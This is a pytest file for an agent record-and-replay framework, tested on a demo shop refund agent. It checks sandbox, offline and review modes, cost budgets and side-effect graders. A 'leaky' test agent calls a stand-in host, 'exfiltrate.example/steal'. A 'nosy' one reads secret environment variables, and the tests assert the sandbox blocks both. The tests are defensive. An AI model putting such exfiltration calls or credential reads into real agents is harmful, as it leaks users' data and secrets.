"""The three modes feed the same graders: review, offline (tools from the cassette), sandbox."""

from __future__ import annotations

import sqlite3
from pathlib import Path
from typing import Any

import httpx
import pytest

from examples.shop import agent, make_tools, naive_refund_policy, refund_policy
from recorder import ConfigError, HttpEvent, Tool, ToolEvent, read_cassette, tool
from replay import load_case
from replay.graders import Verdict
from replay.modes import Environment, load_callable, offline, review, sandbox
from replay.stub_llm import Reply, ScriptedPolicy, StubLLM, ToolCall
from tests.helpers import REPO

CASE = load_case(REPO / "examples" / "shop" / "cases" / "refund-4812.yaml")


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One sandbox trial of the demo agent with a live (stub) LLM: the cassette to replay."""
    out = tmp_path_factory.mktemp("recorded") / "refund.cassette"
    with StubLLM(refund_policy()) as llm:
        result = sandbox(CASE, agent, make_tools, out, llm_base_url=llm.openai_base_url)
    assert result.outcome.verdict is Verdict.PASS, result.outcome.evidence
    return out


def spy_tools(ran: list[str]) -> Any:
    def factory(conn: sqlite3.Connection) -> list[Tool[..., Any]]:
        real = make_tools(conn)

        def spy(t: Tool[..., Any]) -> Tool[..., Any]:
            def run(**kwargs: Any) -> Any:
                ran.append(t.name)
                return t.fn(**kwargs)

            wrapped = tool(run, name=t.name, writes=t.writes, description=t.description)
            wrapped.parameters = t.parameters
            return wrapped

        return [spy(t) for t in real]

    return factory


def test_review_offline_and_sandbox_agree(recorded: Path, tmp_path: Path) -> None:
    cassette = read_cassette(recorded)
    reviewed = review(CASE, recorded)
    ran: list[str] = []
    replayed = offline(
        CASE,
        agent,
        spy_tools(ran),
        cassette,
        tmp_path / "offline.cassette",
        llm_base_url="http://127.0.0.1:9/v1",  # frozen: never contacted
    )
    resandboxed = sandbox(
        CASE,
        agent,
        make_tools,
        tmp_path / "sandbox.cassette",
        llm_base_url="http://127.0.0.1:9/v1",
        frozen=cassette,
    )
    assert ran == []  # offline: no tool function ran
    from replay import diff_cassettes

    # The offline trial's cassette records the same calls, effects and changes as the original.
    assert diff_cassettes(cassette, read_cassette(replayed.cassette)).same
    effects = [
        e.effect for e in read_cassette(replayed.cassette).events if isinstance(e, ToolEvent)
    ]
    assert effects == ["read", "write", "write", "write", "write"]
    results = [reviewed, replayed, resandboxed]
    assert [r.outcome.verdict for r in results] == [Verdict.PASS] * 3
    assert reviewed.trial.diff == replayed.trial.diff == resandboxed.trial.diff
    assert reviewed.trial.diff.touched() == {"orders", "refunds", "ledger", "emails"}
    assert [[(g.grader, g.verdict) for g in r.outcome.grades] for r in results] == [
        [("rule", Verdict.PASS), ("state", Verdict.PASS)]
    ] * 3


def test_offline_an_unseen_call_is_unsupported_with_its_nearest(
    recorded: Path, tmp_path: Path
) -> None:
    turns = list(refund_policy().turns)
    turns[0] = Reply(tool_calls=(ToolCall("lookup_order", {"order_id": 4813}),))  # the new version
    ran: list[str] = []
    with StubLLM(ScriptedPolicy(turns, final=refund_policy().final)) as llm:
        result = offline(
            CASE,
            agent,
            spy_tools(ran),
            read_cassette(recorded),
            tmp_path / "v2.cassette",
            llm_base_url=llm.openai_base_url,
            llm="live",
        )
    assert ran == []
    assert result.outcome.verdict is Verdict.UNSUPPORTED
    (miss,) = result.trial.unsupported
    assert miss == (
        "fixture unsupported: lookup_order(order_id=4813); nearest recorded: "
        "lookup_order(order_id=4812), differing in ['order_id']: 4812 -> 4813"
    )


def test_sandbox_duplicate_refund_and_side_effects(tmp_path: Path) -> None:
    turns = list(naive_refund_policy().turns)
    turns.insert(2, turns[1])  # issue_refund twice, with no idempotency key
    with StubLLM(ScriptedPolicy(turns, final="done")) as llm:
        result = sandbox(
            CASE, agent, make_tools, tmp_path / "dup.cassette", llm_base_url=llm.openai_base_url
        )
    assert result.outcome.verdict is Verdict.FAIL
    assert (
        "state: failed: refunds.count(order_id=4812) == 1: expected 1, actual 2"
        in result.outcome.evidence
    )


def test_sandbox_refuses_other_hosts_and_records_it(tmp_path: Path) -> None:
    def leaky(instruction: str, env: Environment) -> str:
        with httpx.Client() as client:
            client.get("http://exfiltrate.example/steal")
        return "done"

    with StubLLM() as llm:
        result = sandbox(
            CASE, leaky, make_tools, tmp_path / "leak.cassette", llm_base_url=llm.openai_base_url
        )
    assert result.outcome.verdict is Verdict.ERROR
    assert any(
        "sandbox: http://exfiltrate.example/steal is not an allowed endpoint" in e
        for e in result.outcome.evidence
    )
    (event,) = [e for e in read_cassette(result.cassette).events if isinstance(e, HttpEvent)]
    assert event.error is not None and event.response is None


def test_an_agent_that_raises_is_an_error_verdict(tmp_path: Path) -> None:
    def crashing(instruction: str, env: Environment) -> str:
        raise RuntimeError("agent bug")

    result = sandbox(
        CASE,
        crashing,
        make_tools,
        tmp_path / "crash.cassette",
        llm_base_url="http://127.0.0.1:9/v1",
    )
    assert result.outcome.verdict is Verdict.ERROR
    assert "agent: agent raised builtins.RuntimeError: agent bug" in result.outcome.evidence


def test_load_callable() -> None:
    assert load_callable("examples.shop:agent") is agent
    with pytest.raises(ConfigError, match="is not module:function"):
        load_callable("examples.shop.agent")
    with pytest.raises(ConfigError, match=r"cannot load 'examples\.shop:nope'"):
        load_callable("examples.shop:nope")


def test_sandbox_hides_secret_environment_variables(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import os

    monkeypatch.setenv("SHOP_API_KEY", "sk-live-123")
    monkeypatch.setenv("DEPLOY_TOKEN", "t-456")
    monkeypatch.setenv("SHOP_REGION", "eu")
    seen: dict[str, str | None] = {}

    def nosy(instruction: str, env: Environment) -> str:
        for name in ("SHOP_API_KEY", "DEPLOY_TOKEN", "SHOP_REGION"):
            seen[name] = os.environ.get(name)
        return "done"

    sandbox(
        CASE,
        nosy,
        make_tools,
        tmp_path / "env.cassette",
        llm_base_url="http://127.0.0.1:9/v1",
        allow_env=["DEPLOY_TOKEN"],
    )
    assert seen == {"SHOP_API_KEY": None, "DEPLOY_TOKEN": "t-456", "SHOP_REGION": "eu"}
    assert os.environ["SHOP_API_KEY"] == "sk-live-123"  # restored after the trial


def test_concurrent_trials_keep_to_their_own_cassettes(tmp_path: Path) -> None:
    from replay import AgentSettings, ExecutorSettings, LlmSettings, RunSpec, Store, execute

    store = Store(tmp_path / "r.db")
    with StubLLM(refund_policy()) as llm:
        spec = RunSpec(
            name="parallel",
            cases=[str(CASE.path)],
            mode="sandbox",
            trials=8,
            agent=AgentSettings("examples.shop:agent", "examples.shop:make_tools"),
            llm=LlmSettings(url=llm.openai_base_url),
            executor=ExecutorSettings(concurrency=4),
        )
        execute(spec, store)
    trials = store.trials("parallel")
    assert [t.verdict for t in trials] == ["pass"] * 8
    for row in trials:
        cassette = read_cassette(row.cassette)
        assert cassette.header.trial == row.idx
        summary = cassette.summary()
        assert (summary.usage.llm_calls, summary.usage.tool_calls) == (6, 5)


def test_costs_from_prices_and_the_cost_budget(recorded: Path) -> None:
    from replay.modes import trial_cost

    cassette = read_cassette(recorded)
    summary = cassette.summary()
    cost = trial_cost(cassette, {"stub-shop-1": (2.0, 8.0)})
    expected = (summary.usage.input_tokens * 2.0 + summary.usage.output_tokens * 8.0) / 1e6
    assert cost == pytest.approx(expected) and cost > 0
    assert trial_cost(cassette, {"another-model": (1.0, 1.0)}) is None
    tight = CASE.model_copy(update={"max_cost": expected / 2})
    result = review(tight, recorded, prices={"stub-shop-1": (2.0, 8.0)})
    assert result.outcome.verdict is Verdict.FAIL
    assert any("over the budget of $" in e for e in result.outcome.evidence)
    unpriced = review(tight, recorded)
    assert unpriced.outcome.verdict is Verdict.PASS  # not checked without a price, and said so
    (rule,) = [g for g in unpriced.outcome.grades if g.grader == "rule"]
    assert rule.evidence == (
        "cost budget not checked: no price for a model the trial called (--price)",
    )


def test_offline_numbers_match_by_value(recorded: Path, tmp_path: Path) -> None:
    from replay.surroundings._player import ToolPlayer

    player = ToolPlayer(read_cassette(recorded))
    event = player.answer(
        "issue_refund",
        {
            "order_id": 4812.0,
            "amount": 35,
            "reason": "customer request",
            "idempotency_key": "refund-4812",
        },
    )
    assert event.name == "issue_refund"


def test_review_refuses_a_cassette_of_another_world(recorded: Path, tmp_path: Path) -> None:
    from recorder import FixtureError

    other = tmp_path / "other.sql"
    other.write_text(
        (REPO / "examples" / "shop" / "fixture.sql").read_text().replace("35.00", "36.00")
    )
    case = CASE.model_copy(update={"fixture": other})
    with pytest.raises(FixtureError, match="was recorded on another world"):
        review(case, recorded)


def test_sandbox_an_unrelated_write_fails_no_side_effects_naming_the_table(tmp_path: Path) -> None:
    def tools_with_restock(conn: sqlite3.Connection) -> list[Tool[..., Any]]:
        @tool(writes=True)
        def restock(sku: str, stock: int) -> str:
            """Set a product's stock."""
            conn.execute("update inventory set stock = ? where sku = ?", (stock, sku))
            return "ok"

        return [*make_tools(conn), restock]

    turns = list(refund_policy().turns)
    turns.insert(1, Reply(tool_calls=(ToolCall("restock", {"sku": "MUG-01", "stock": 0}),)))
    with StubLLM(ScriptedPolicy(turns, final=refund_policy().final)) as llm:
        result = sandbox(
            CASE,
            agent,
            tools_with_restock,
            tmp_path / "side.cassette",
            llm_base_url=llm.openai_base_url,
        )
    assert result.outcome.verdict is Verdict.FAIL
    assert (
        "state: failed: no_side_effects: changed inventory "
        "(allowed: emails, ledger, orders, refunds)" in result.outcome.evidence
    )


def test_an_async_agent_runs_and_is_recorded(tmp_path: Path) -> None:
    import json as json_

    from openai import AsyncOpenAI

    async def async_agent(instruction: str, env: Any) -> str:
        messages: list[Any] = [{"role": "user", "content": instruction}]
        async with AsyncOpenAI(base_url=env.llm_base_url, api_key="k", max_retries=0) as client:
            for _ in range(8):
                reply = await client.chat.completions.create(
                    model="stub", messages=messages, tools=env.tools
                )
                message = reply.choices[0].message
                if not message.tool_calls:
                    return message.content or ""
                messages.append(message.model_dump(exclude_none=True))
                for call in message.tool_calls:
                    result = env.call_tool(call.function.name, json_.loads(call.function.arguments))
                    messages.append(
                        {"role": "tool", "tool_call_id": call.id, "content": json_.dumps(result)}
                    )
        return "out of steps"

    with StubLLM(refund_policy()) as llm:
        result = sandbox(
            CASE, async_agent, make_tools, tmp_path / "a.cassette", llm_base_url=llm.openai_base_url
        )
    assert result.outcome.verdict is Verdict.PASS, result.outcome.evidence
    summary = read_cassette(tmp_path / "a.cassette").summary()
    assert summary.usage.llm_calls == 6 and summary.usage.tool_calls == 5


def test_an_agent_that_exits_is_an_error_trial_not_the_end_of_the_run(tmp_path: Path) -> None:
    import sys

    def quitter(instruction: str, env: Any) -> str:
        sys.exit(3)

    result = sandbox(
        CASE, quitter, make_tools, tmp_path / "q.cassette", llm_base_url="http://127.0.0.1:9/v1"
    )
    assert result.outcome.verdict is Verdict.ERROR
    assert any("SystemExit" in e for e in result.outcome.evidence)


async def _awaiting_agent(instruction: str, env: Environment) -> str:
    """Awaits call_tool for the async tool and calls env.functions positionally."""
    stock = await env.call_tool("check_stock", {"sku": "mug"})
    functions = {f.__name__: f for f in env.functions}
    plate = await functions["check_stock"]("plate")
    functions["reserve"]("mug", 2)
    functions["reserve"](sku="plate", qty=1)
    return f"reserved 2 of {stock['stock']} mugs and 1 of {plate['stock']} plates"


def test_an_async_tool_is_awaitable_in_sandbox_and_offline_alike(tmp_path: Path) -> None:
    from examples.frameworks import make_tools as inventory_tools

    case = load_case(REPO / "examples" / "frameworks" / "cases" / "reserve.yaml")
    live = sandbox(
        case, _awaiting_agent, inventory_tools, tmp_path / "a.cassette",
        llm_base_url="http://127.0.0.1:9/v1",
    )  # fmt: skip
    assert live.outcome.verdict is Verdict.PASS, live.outcome.evidence
    again = offline(
        case, _awaiting_agent, inventory_tools, read_cassette(tmp_path / "a.cassette"),
        tmp_path / "b.cassette", llm_base_url="http://127.0.0.1:9/v1",
    )  # fmt: skip
    assert again.outcome.verdict is Verdict.PASS, again.outcome.evidence
    calls = [(e.name, e.args) for e in read_cassette(tmp_path / "b.cassette").events
             if isinstance(e, ToolEvent)]  # fmt: skip
    assert calls == [
        ("check_stock", {"sku": "mug"}),
        ("check_stock", {"sku": "plate"}),
        ("reserve", {"sku": "mug", "qty": 2}),
        ("reserve", {"sku": "plate", "qty": 1}),
    ]


def test_env_functions_bind_positional_arguments_of_a_method_tool() -> None:
    from replay.modes import as_function

    class Shop:
        @tool(writes=True)
        def refund(self, order_id: int, amount: float = 1.0) -> str:
            """Refund an order."""
            return "ok"

    seen: list[tuple[str, dict[str, Any]]] = []
    function = as_function(Shop().refund, lambda name, args: seen.append((name, dict(args))))
    function(4812, 2.0)
    function(order_id=7)
    assert seen == [
        ("refund", {"order_id": 4812, "amount": 2.0}),
        ("refund", {"order_id": 7, "amount": 1.0}),
    ]
    import inspect

    assert str(inspect.signature(function)) == "(order_id: int, amount: float = 1.0) -> str"
    assert function.__doc__ == "Refund an order."
